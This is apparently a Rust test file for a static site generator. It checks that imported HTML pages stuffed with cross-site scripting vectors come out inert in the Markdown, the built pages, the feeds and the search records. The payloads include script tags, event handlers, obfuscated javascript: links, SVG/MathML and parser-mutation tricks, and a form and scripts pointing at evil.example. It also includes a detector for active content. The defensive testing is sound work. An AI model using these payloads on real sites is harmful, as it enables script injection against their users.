//! Hostile input: pages built to run script, navigate away or break out of their fields, through
//! import and build. Nothing active reaches `content/` (the Markdown holds no raw HTML and no
//! unsafe link), nor any page, feed or search record of the site; the text itself survives, as
//! text. A browser opens the pages and the search results and must see no script run.

use std::path::Path;

use pulldown_cmark::{Event, Parser, Tag};
use scraper::{Html, Selector};

use crate::site::serve_under_archive;
use crate::tools;
use crate::util::*;

/// A paragraph long enough that each page is an article.
const FILLER: &str = "Les patrouilles conjointes ont repris sur la route nationale entre Gao et Ménaka, \
    selon des habitants joints par téléphone qui décrivent des marchés rouvrant peu à peu.";

/// Every vector once, as `(file, head, title, body)`: the `<head>` extras, the `<h1>`, the
/// article's own markup. Each would call `alert` or set `window.__pwned` if it ran.
fn vectors() -> Vec<(&'static str, String, &'static str, &'static str)> {
    let json_ld = serde_json::json!({
        "@type": "NewsArticle",
        "headline": "JSON-LD </script><script>window.__pwned=1</script> piégé",
        "author": {"name": "<img src=x onerror=alert(1)>Bob"},
        "description": "<svg onload=alert(1)>",
        "datePublished": "2024-01-02",
        "image": "javascript:alert(1)",
        "url": "javascript:alert(1)"
    });
    vec![
        (
            "scripts",
            "<script>window.__pwned=1</script><script src=\"https://evil.example/x.js\"></script>".into(),
            "Scripts en tête et en corps",
            "<script>alert(1)</script><SCRIPT>window.__pwned=1</SCRIPT><script src=//evil.example/y.js></script>",
        ),
        (
            "handlers",
            String::new(),
            "Gestionnaires d’événements",
            "<p onmouseover=\"alert(1)\">Survol du texte ici.</p><img src=x onerror=\"alert(1)\">\
             <details open ontoggle=alert(1)><summary>s</summary>d</details>\
             <video><source onerror=\"alert(1)\"></video><input autofocus onfocus=alert(1)>\
             <div style=\"background:url(javascript:alert(1))\" onclick=\"alert(1)\">clic</div>",
        ),
        (
            "urls",
            String::new(),
            "Liens et sources piégés",
            "<p>Voir <a href=\"javascript:alert(1)\">un</a>, <a href=\"jav&#x09;ascript:alert(1)\">deux</a>, \
             <a href=\"&#106;avascript:alert(1)\">trois</a>, <a href=\"JaVaScRiPt:alert(1)\">quatre</a>, \
             <a href=\"  javascript:alert(1)\">cinq</a>, <a href=\"vbscript:msgbox(1)\">six</a>, \
             <a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">sept</a> et \
             <a href=\"https://example.org/rapport\">le rapport</a>.</p>\
             <figure><img src=\"javascript:alert(1)\" srcset=\"javascript:alert(1) 1x, data:image/svg+xml,x 2x\" alt=\"a\">\
             <figcaption>Une légende &lt;img src=x onerror=alert(1)&gt; ordinaire.</figcaption></figure>\
             <img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        ),
        (
            "embeds",
            "<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\
             <link rel=\"stylesheet\" href=\"https://evil.example/x.css\">"
                .into(),
            "Cadres, objets et formulaires",
            "<iframe src=\"https://evil.example/\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>\
             <object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">\
             <form action=\"https://evil.example/collect\"><input name=email><button>Envoyer</button></form>\
             <frameset><frame src=\"javascript:alert(1)\"></frameset><style>body{display:none}</style>",
        ),
        (
            "svg-math",
            String::new(),
            "SVG et MathML",
            "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\"><text>x</text></a>\
             <animate attributeName=href to=javascript:alert(1) /><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>\
             <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext>\
             <a xlink:href=\"javascript:alert(1)\">m</a></math>",
        ),
        (
            "mutation",
            String::new(),
            "Mutations du parseur",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>\
             <p>avant <!-- --><script>alert(1)</script> --> après</p>\
             <textarea></textarea><img src=x onerror=alert(1)></textarea><xmp><script>alert(1)</script></xmp>",
        ),
        (
            "text",
            String::new(),
            "Du code en texte",
            "<p>Le texte cite &lt;script&gt;alert(1)&lt;/script&gt; et &lt;img src=x onerror=alert(1)&gt;, \
             puis [un lien](javascript:alert(1)) et ![image](javascript:alert(1)) en Markdown, \
             et {{ config.base_url }} {% include \"base.html\" %} en gabarit.</p>",
        ),
        (
            "metadata",
            format!(
                "<meta name=\"author\" content=\"&lt;img src=x onerror=alert(1)&gt; Awa Traoré\">\
                 <meta property=\"og:description\" content=\"&lt;script&gt;alert(1)&lt;/script&gt;\">\
                 <meta property=\"og:image\" content=\"javascript:alert(1)\">\
                 <meta property=\"article:section\" content=\"&lt;svg onload=alert(1)&gt;\">\
                 <link rel=\"canonical\" href=\"javascript:alert(1)\">\
                 <script type=\"application/ld+json\">{json_ld}</script>"
            ),
            "Métadonnées piégées",
            "",
        ),
        (
            "title",
            String::new(),
            "&lt;script&gt;window.__pwned=1&lt;/script&gt; Mali &lt;img src=x onerror=alert(1)&gt; {{ site }}",
            "",
        ),
    ]
}

fn page(head: &str, title: &str, body: &str) -> String {
    format!(
        // One outlet for all: the pages share their filler, which across outlets would make them
        // copies of one dispatch, shown once in search.
        "<!DOCTYPE html><html lang=fr><head><meta charset=utf-8><title>{title}</title>\
         <meta property=\"og:site_name\" content=\"Site piégé\">{head}</head>\
         <body onload=\"alert(1)\"><article><h1>{title}</h1>{body}<p>{FILLER}</p><p>{FILLER} Deux.</p>\
         <p>{FILLER} Trois.</p></article></body></html>"
    )
}

/// A user's own file: raw HTML in the Markdown, markup in every front-matter field.
const HAND_WRITTEN: &str = "---\ntitle: \"À la main <b onclick=alert(1)>x</b>\"\ndate: 2024-05-01\n\
    authors: [\"<img src=x onerror=alert(1)>\"]\nsection: \"<script>alert(1)</script>\"\n\
    source_url: \"javascript:alert(1)\"\nlang: fr\nsummary: \"<svg onload=alert(1)>\"\n\
    actors: [\"<img src=x onerror=alert(1)>\", \"../../etc\"]\ncountries: [Mali]\n---\n\n\
    <script>alert(1)</script>\n<img src=x onerror=\"alert(1)\">\n\n\
    [x](javascript:alert(1)) <a href=\"  javascript:alert(1)\">y</a> <a href=\"data:text/html,x\">z</a>\n\n\
    <details open ontoggle=alert(1)>d</details>\n\n<iframe src=\"https://evil.example\"></iframe>\n";

/// `javascript:`, `vbscript:` or `data:` once the characters a browser ignores are gone.
fn is_unsafe_url(url: &str) -> bool {
    let folded: String = url
        .chars()
        .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:"]
        .iter()
        .any(|s| folded.starts_with(s))
}

/// What would run or navigate in one HTML document or fragment; `theme_scripts` are the
/// theme's own script addresses.
fn active_content(html: &str, theme_scripts: &[&str]) -> Vec<String> {
    let document = Html::parse_document(html);
    let mut found = Vec::new();
    let all = Selector::parse("*").unwrap();
    for element in document.select(&all) {
        let tag = element.value().name();
        let attr = |name: &str| element.value().attr(name);
        if ["iframe", "frame", "object", "embed", "applet", "base", "link"].contains(&tag)
            // The theme's own: its style sheet and feed (relative) and the page's canonical address.
            && !(tag == "link" && (attr("rel") == Some("canonical") || attr("href").is_some_and(|h| !h.contains(':'))))
        {
            found.push(format!("<{tag}>"));
        }
        if tag == "meta" && attr("http-equiv").is_some_and(|v| v.eq_ignore_ascii_case("refresh")) {
            found.push("meta refresh".into());
        }
        if tag == "script" && !attr("src").is_some_and(|src| theme_scripts.iter().any(|s| src.ends_with(s))) {
            found.push(format!("<script src={:?}>", attr("src")));
        }
        if tag == "form" && !attr("action").is_some_and(|a| a.ends_with("search.html") && !a.contains(':')) {
            found.push(format!("<form action={:?}>", attr("action")));
        }
        for (name, value) in element.value().attrs() {
            if name.starts_with("on") {
                found.push(format!("<{tag} {name}>"));
            }
            let is_url = [
                "href",
                "src",
                "action",
                "formaction",
                "data",
                "poster",
                "xlink:href",
                "srcdoc",
            ]
            .contains(&name);
            let unsafe_srcset = name == "srcset" && value.split(',').any(|c| is_unsafe_url(c.trim()));
            if (is_url && is_unsafe_url(value)) || unsafe_srcset || name == "srcdoc" {
                found.push(format!("<{tag} {name}={value:?}>"));
            }
        }
    }
    found
}

/// The unsafe things in an imported Markdown body: raw HTML, links or images to unsafe URLs.
fn markdown_problems(body: &str) -> Vec<String> {
    Parser::new(body)
        .filter_map(|event| match event {
            Event::Html(html) | Event::InlineHtml(html) => Some(format!("raw HTML {html:?}")),
            Event::Start(Tag::Link { dest_url, .. }) | Event::Start(Tag::Image { dest_url, .. })
                if is_unsafe_url(&dest_url) =>
            {
                Some(format!("link to {dest_url:?}"))
            }
            _ => None,
        })
        .collect()
}

/// Imports the vectors and adds the hand-written file; returns the site folder.
fn hostile_site() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let inputs = dir.path().join("in");
    std::fs::create_dir(&inputs).unwrap();
    let vectors = vectors();
    for (name, head, title, body) in &vectors {
        std::fs::write(inputs.join(format!("{name}.html")), page(head, title, body)).unwrap();
    }
    let output = run(dir.path(), &["import", "in", "-o", "content"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(markdown_files(&dir.path().join("content")).len(), vectors.len());
    std::fs::write(dir.path().join("content/a-la-main.md"), HAND_WRITTEN).unwrap();
    dir
}

#[test]
fn nothing_active_reaches_content_or_any_built_file() {
    let dir = hostile_site();
    let content = dir.path().join("content");
    for file in markdown_files(&content) {
        if file.ends_with("a-la-main.md") {
            continue; // the user's own file: kept as written, made safe at build
        }
        let (yaml, body) = front(&file);
        let problems = markdown_problems(&body);
        assert!(problems.is_empty(), "{}: {problems:?}", file.display());
        if let Some(url) = str_field(&yaml, "source_url") {
            assert!(
                url.starts_with("http://") || url.starts_with("https://"),
                "{}: {url}",
                file.display()
            );
        }
    }
    // The text survives as text: the escaped code and the template syntax are still there.
    let all: String = markdown_files(&content)
        .iter()
        .map(|f| std::fs::read_to_string(f).unwrap())
        .collect();
    assert!(all.contains("onerror=alert(1)") && all.contains("{{ config.base_url }}"));

    let output = run(dir.path(), &["build"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let public = dir.path().join("public");
    let mut pages = 0;
    for (path, bytes) in tree(&public) {
        let text = String::from_utf8_lossy(&bytes);
        if path.ends_with(".html") {
            pages += 1;
            let found = active_content(&text, &["static/search.js", "static/sort.js"]);
            assert!(found.is_empty(), "{path}: {found:?}");
        } else if path.ends_with(".xml") {
            feed_is_inert(&path, &text);
        } else if path.starts_with("search/") && path.ends_with(".json") {
            search_records_are_inert(&path, &text);
        }
    }
    assert!(pages > 20, "{pages} pages checked");
    // Templates print page text, they never evaluate it.
    let article = std::fs::read_to_string(public.join("articles/du-code-en-texte.html")).unwrap();
    assert!(
        article.contains("{{ config.base_url }}"),
        "template syntax in a body stays text"
    );
    assert!(
        article.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "escaped code stays visible"
    );
}

/// A feed's text fields are text; an HTML one (`type="html"`, RSS descriptions) holds nothing
/// active once unescaped.
fn feed_is_inert(path: &str, xml: &str) {
    let document = roxmltree::Document::parse(xml).unwrap_or_else(|e| panic!("{path}: {e}"));
    for node in document.descendants().filter(|n| n.is_element()) {
        let html = node.attribute("type") == Some("html") || node.tag_name().name() == "description";
        if let (true, Some(text)) = (html, node.text()) {
            let found = active_content(text, &[]);
            assert!(found.is_empty(), "{path} <{}>: {found:?}", node.tag_name().name());
        }
        for attribute in node.attributes().filter(|a| a.name() == "href") {
            assert!(!is_unsafe_url(attribute.value()), "{path}: {}", attribute.value());
        }
    }
}

/// Search records are shown with `textContent` (search.js); what could navigate is their path.
fn search_records_are_inert(path: &str, json: &str) {
    fn walk(path: &str, value: &serde_json::Value) {
        match value {
            serde_json::Value::Object(map) => {
                for (key, value) in map {
                    if let (true, Some(target)) = (key == "path" || key == "url", value.as_str()) {
                        assert!(
                            !is_unsafe_url(target) && !target.contains("..") && !target.contains("://"),
                            "{path}: {key} {target:?}"
                        );
                    }
                    walk(path, value);
                }
            }
            serde_json::Value::Array(items) => items.iter().for_each(|v| walk(path, v)),
            _ => {}
        }
    }
    let value: serde_json::Value = serde_json::from_str(json).unwrap_or_else(|e| panic!("{path}: {e}"));
    walk(path, &value);
}

#[test]
fn the_checks_see_active_content_when_there_is_some() {
    let page = "<html><head><script>x</script><base href=/></head><body><a href=' jAvA\tscript:x'>a</a>\
        <img srcset='a.png 1x, javascript:x 2x' onerror=x><form action='https://evil.example'></form></body></html>";
    assert_eq!(active_content(page, &[]).len(), 6, "{:?}", active_content(page, &[]));
    assert_eq!(
        markdown_problems("a <b>b</b>\n\n[x](javascript:y) ![i](data:x)").len(),
        4
    );
    assert!(markdown_problems("a \\<b\\> [x](https://example.org)").is_empty());
}

#[test]
fn a_browser_runs_no_script_from_the_pages_or_their_search_results() {
    let Some(chromium) = tools::chromium() else { return };
    let Some(playwright) = tools::playwright_core() else {
        return;
    };
    let dir = hostile_site();
    let output = run(dir.path(), &["build"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let public = dir.path().join("public");
    let mut pages: Vec<String> = std::fs::read_dir(public.join("articles"))
        .unwrap()
        .map(|e| format!("articles/{}", e.unwrap().file_name().to_string_lossy()))
        .collect();
    pages.sort();
    pages.extend(["", "actors/", "sections/"].map(String::from));
    let port = serve_under_archive(public);
    let base = format!("http://127.0.0.1:{port}/archive/");
    let output = tools::browser_script("hostile.mjs", &playwright, &chromium)
        .arg(&base)
        .args(&pages)
        .output()
        .expect("node runs");
    assert!(output.status.success(), "hostile.mjs: {}", stderr(&output));
    let seen: serde_json::Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("hostile.mjs: {e}: {}", String::from_utf8_lossy(&output.stdout)));
    assert_eq!(seen["visited"].as_u64(), Some(pages.len() as u64 + 1), "{seen}");
    assert!(
        seen["results"].as_u64().unwrap_or(0) >= 3,
        "the search shows the hostile articles: {seen}"
    );
    assert_eq!(seen["ran"], serde_json::json!([]), "script ran: {seen}");
    assert!(Path::new(&dir.path().join("content")).is_dir());
}
